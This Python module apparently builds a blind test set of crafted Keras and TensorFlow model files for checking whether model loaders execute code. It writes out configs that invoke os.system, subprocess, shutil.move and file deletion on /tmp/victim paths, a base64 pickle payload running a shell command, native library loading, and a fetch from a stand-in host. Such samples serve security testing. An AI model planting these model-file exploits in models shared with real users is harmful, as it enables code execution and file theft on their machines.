"""Fourth blind set: Keras' files, and TensorFlow's that `unseen4_write_graphs.py` wrote."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

from corpora.unseen3_base import Sample, as_json, zipped
from corpora.unseen4_packed import packed

SECRET, KEEP = "/tmp/victim/secret.txt", "/tmp/victim/keep.txt"
LOAD = "import keras; keras.saving.load_model(f)"
CALL = "import tensorflow as tf; m = tf.saved_model.load(f); m(tf.constant(1.0))"
GRAPH = (
    "import tensorflow as tf; g = tf.compat.v1.GraphDef(); g.ParseFromString(open(f, 'rb').read())\n"
    "w = tf.compat.v1.wrap_function(lambda: tf.compat.v1.import_graph_def(g, name=''), [])\n"
    "n = [o for o in w.graph.get_operations()]; last = [o for o in n if o.outputs][-1].outputs[0]\n"
    "w.prune([o for o in n if o.type == 'Placeholder'][0].outputs[0], [last] + [o for o in n if not o.outputs])"
    "(tf.constant(1.0))"
)
META = (
    "import tensorflow as tf\nwith tf.Graph().as_default() as g:\n tf.compat.v1.train.import_meta_graph(f)\n"
    " with tf.compat.v1.Session() as s: s.run([o for o in g.get_operations() if o.type != 'NoOp'])"
)
LITE = "import tensorflow as tf; i = tf.lite.Interpreter(f); i.allocate_tensors(); i.invoke()"
NETWORK = {"debug-address", "service"}
MADE = {"cache-file", "save-dataset", "save-tensors", "save-slices", "debug-file", "sql", "snapshot"}


def keras_file(config: object) -> dict[str, bytes]:
    meta = {"keras_version": "3.8.0", "date_saved": "2025-11-02@10:11:12"}
    members = {"metadata.json": as_json(meta), "config.json": as_json(config), "model.weights.h5": b""}
    return {"model.keras": zipped(members)}


def node(module: str, function: str, *args: object, **kwargs: object) -> dict[str, object]:
    """A function of a module in place of a layer, which is called with what its node says."""
    inbound = [{"args": list(args), "kwargs": kwargs}]
    return {
        "module": module,
        "class_name": "function",
        "config": function,
        "registered_name": "function",
        "name": "n",
        "inbound_nodes": inbound,
    }


def layer(kind: str, config: dict[str, object], module: str = "keras.layers", **more: object) -> dict[str, object]:
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, **more}


INPUT = layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "name": "i"}, name="i", inbound_nodes=[])


def functional(*layers: dict[str, object]) -> dict[str, object]:
    config = {"name": "m", "trainable": True, "layers": [INPUT, *layers]}
    config |= {"input_layers": [["i", 0, 0]], "output_layers": [["i", 0, 0]]}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}


def sequential(*layers: dict[str, object]) -> dict[str, object]:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [INPUT, *layers]}}


def functions() -> Iterator[tuple[str, object, str]]:
    text = "import os; os.system('touch /tmp/x')"
    yield "timeit", functional(node("timeit", "timeit", text, number=1)), "code"
    yield "pandas-eval", functional(node("profile", "run", text)), "code"
    yield "check-output", functional(node("subprocess", "check_output", ["touch", "/tmp/x"])), "code"
    yield "numpy-load", functional(node("shutil", "move", SECRET, KEEP)), "file"
    yield "write-script", functional(node("distutils.file_util", "write_file", KEEP, ["gone"])), "file"
    inner = functional(node("os", "system", "touch /tmp/x"))
    yield "in-a-wrapper", sequential(layer("TimeDistributed", {"name": "t", "layer": inner})), "code"
    yield "in-compile-config", {**sequential(), "compile_config": {"optimizer": inner, "loss": None}}, "code"
    yield "in-a-metric", {**sequential(), "compile_config": {"loss": "mse", "metrics": [inner]}}, "code"
    yield "in-a-dictionary", sequential(layer("Dense", {"units": 2, "name": "d", "dtype": {"a": [inner]}})), "code"


TEXTS = {"name": "v", "vocabulary": SECRET, "max_tokens": None, "standardize": "lower", "split": "whitespace"}
TEXTS |= {"ngrams": None, "output_mode": "int", "output_sequence_length": None, "pad_to_max_tokens": False}
TEXTS |= {"sparse": False, "ragged": False, "idf_weights": None, "encoding": "utf-8"}


def vocabularies() -> Iterator[tuple[str, object, str]]:
    yield "text-vectorization", sequential(layer("TextVectorization", TEXTS)), "file"
    yield "integer-lookup", sequential(layer("IntegerLookup", {"name": "v", "vocabulary": SECRET})), "file"
    nested = {"class_name": "StringLookup", "module": "keras.layers", "config": {"name": "v", "vocabulary": SECRET}}
    yield "lookup-in-time", sequential(layer("TimeDistributed", {"name": "t", "layer": nested})), "file"


def constants(symbol: str, first: str, **kwargs: object) -> str:
    """A Keras 2 model whose node calls a function of TensorFlow's interface with constants."""
    inputs = {"class_name": "InputLayer", "name": "i", "inbound_nodes": []}
    inputs["config"] = {"batch_input_shape": [None, 2], "dtype": "float32", "name": "i"}
    call = {"class_name": "TFOpLambda", "name": "o", "config": {"name": "o", "dtype": "float32", "function": symbol}}
    call["inbound_nodes"] = [["_CONSTANT_VALUE", -1, first, kwargs]]
    config = {"name": "m", "layers": [inputs, call], "input_layers": [["i", 0, 0]], "output_layers": [["i", 0, 0]]}
    return json.dumps(
        {"class_name": "Functional", "keras_version": "2.15.0", "backend": "tensorflow", "config": config}
    )


def operations() -> Iterator[tuple[str, str, str]]:
    yield "write-file", constants("io.write_file", KEEP, contents="gone"), "file"
    yield "read-file", constants("io.read_file", SECRET), "file"
    yield "rmtree", constants("io.gfile.rmtree", "/tmp/victim"), "file"
    yield "remove", constants("io.gfile.remove", KEEP), "file"
    yield "copy", constants("io.gfile.copy", SECRET, dst="/tmp/victim/xcopy"), "file"
    yield "makedirs", constants("io.gfile.makedirs", "/tmp/x/y"), "file"
    yield "get-file", constants("keras.utils.get_file", "w.bin", origin="http://updates.example.net/w"), "network"
    yield "summary", constants("summary.create_file_writer", "/tmp/xsummary"), "file"
    yield "library", constants("load_library", "/tmp/s/lib.bin"), "code"
    yield "op-library", constants("load_op_library", "/tmp/s/lib.bin"), "code"
    yield "print", constants("print", "gone", output_stream="file:///tmp/victim/keep.txt"), "file"


def candidates() -> Iterator[Sample]:
    for name, config, effect in (*functions(), *vocabularies()):
        yield Sample(f"keras/{name}", keras_file(config), LOAD, effect, "keras30")
    text = base64.b64encode(b"cos\nsystem\n(Vtouch /tmp/x\ntR.").decode()
    wrapper = {"name": "t", "module": text}
    wrapped = sequential(layer("TorchModuleWrapper", wrapper))
    torch = "import os; os.environ['KERAS_BACKEND'] = 'torch'\n" + LOAD
    yield Sample("keras/torch-wrapper", keras_file(wrapped), torch, "code", "keras311+main")
    nested = sequential(layer("TimeDistributed", {"name": "d", "layer": layer("TorchModuleWrapper", wrapper)}))
    yield Sample("keras/torch-wrapper-nested", keras_file(nested), torch, "code", "keras311+main")
    library = dict(packed("native"))["native/library"]["lib.bin"]
    for name, config_text, effect in operations():
        load = "from tensorflow import keras; keras.models.model_from_json(open(f).read())"
        files = {"model.json": config_text.encode()} | ({"lib.bin": library} if effect == "code" else {})
        yield Sample(f"keras2-text/{name}", files, load, effect, "tf215")
    for key, files in packed("keras2"):
        effect = "code" if "library" in key or "lambda" in key else "file"
        yield Sample(
            key, files, "from tensorflow import keras; keras.models.load_model(f)", effect, "tf215", "model.h5"
        )
    yield from graphs()


def graphs() -> Iterator[Sample]:
    families = (
        ("saved-model", CALL, "", "tf"),
        ("graph", GRAPH, None, "tf"),
        ("meta", META, None, "tf"),
        ("tflite", LITE, None, "tf215"),
    )
    for family, loader, entry, env in families:
        for key, files in packed(family):
            name = key.rpartition("/")[2]
            effect = "network" if name in NETWORK else "crash" if name in {"abort", "huge"} else "file"
            yield Sample(key, files, loader, effect, env, entry)
